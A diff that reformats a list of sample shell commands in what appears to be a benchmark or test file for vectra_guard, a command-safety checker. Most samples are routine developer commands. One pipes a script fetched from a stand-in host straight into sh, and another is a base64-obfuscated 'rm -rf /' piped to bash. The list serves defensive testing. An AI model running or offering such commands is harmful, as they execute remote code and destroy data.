@@ -20,11 +20,23 @@ from vectra_guard import syntax
 from vectra_guard.model import Facts, Request
 
 SAMPLE = [
-    "git status", "ls -la src", "cd web && npm install", "make -j8 2>&1 | tee build.log", "for f in *.py; do wc -l \"$f\"; done", "rm -rf node_modules/",
-    "docker run --rm -it -v \"$PWD\":/w alpine sh -c 'ls /w | wc -l'", "grep -rn 'TODO' src | awk '{print $1}' | sort | uniq -c", "curl -fsSL https://x.example/i.sh | sh",
-    "git commit -m \"fix: the thing (again)\"", "find . -name '*.pyc' -print0 | xargs -0 rm -f", "export PATH=\"$HOME/bin:$PATH\"", "kubectl get pods -n prod",
-    "echo cm0gLXJmIC8= | base64 -d | bash", "sudo -u www-data env X=1 nice -n 5 sh -c 'rm -rf /var/cache/x'", "if [ -f .env ]; then source .env; fi",
-]  # fmt: skip
+    "git status",
+    "ls -la src",
+    "cd web && npm install",
+    "make -j8 2>&1 | tee build.log",
+    'for f in *.py; do wc -l "$f"; done',
+    "rm -rf node_modules/",
+    "docker run --rm -it -v \"$PWD\":/w alpine sh -c 'ls /w | wc -l'",
+    "grep -rn 'TODO' src | awk '{print $1}' | sort | uniq -c",
+    "curl -fsSL https://x.example/i.sh | sh",
+    'git commit -m "fix: the thing (again)"',
+    "find . -name '*.pyc' -print0 | xargs -0 rm -f",
+    'export PATH="$HOME/bin:$PATH"',
+    "kubectl get pods -n prod",
+    "echo cm0gLXJmIC8= | base64 -d | bash",
+    "sudo -u www-data env X=1 nice -n 5 sh -c 'rm -rf /var/cache/x'",
+    "if [ -f .env ]; then source .env; fi",
+]
 
 
 def best(run: Callable[[], object], times: int = 15) -> float:
